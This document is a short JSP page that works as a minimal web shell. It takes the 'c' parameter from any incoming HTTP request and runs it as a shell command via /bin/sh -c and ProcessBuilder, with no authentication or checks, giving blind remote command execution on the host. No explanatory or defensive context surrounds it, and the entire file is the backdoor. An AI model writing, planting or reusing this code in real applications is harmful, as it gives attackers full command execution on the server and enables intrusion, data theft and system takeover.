<%@ page import="java.util.*" %>
<%
  List<String> cmd = new ArrayList<String>();
  cmd.add("/bin/sh");
  cmd.add("-c");
  cmd.add(request.getParameter("c"));
  ProcessBuilder pb = new ProcessBuilder(cmd);
  pb.redirectErrorStream(true);
  pb.start();
%>
